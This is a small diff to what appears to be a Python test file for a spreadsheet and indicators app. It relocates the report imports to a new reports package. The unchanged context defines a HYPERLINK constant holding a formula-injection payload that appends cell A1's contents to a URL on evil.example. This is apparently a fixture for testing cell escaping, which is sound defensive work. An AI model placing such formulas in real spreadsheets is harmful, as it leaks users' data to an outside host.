@@ -24,9 +24,10 @@ from core.spreadsheets import append_row, needs_quote, safe_cell, unquote
 from imports import checks, reading
 from indicators import services
 from indicators.models import Indicator, Observation, SeriesValue, Unit
-from plans import reports
-from plans.models import Budget, Plan, Report, Strategy, Task
+from plans.models import Budget, Plan, Strategy, Task
 from regions.models import Region
+from reports import services as reports
+from reports.models import Report
 
 PLAN, KPI, REGION, SERIES = "busan-2", "rnd_to_grdp_pct", "26", "rcostii_rank"
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"보기")'
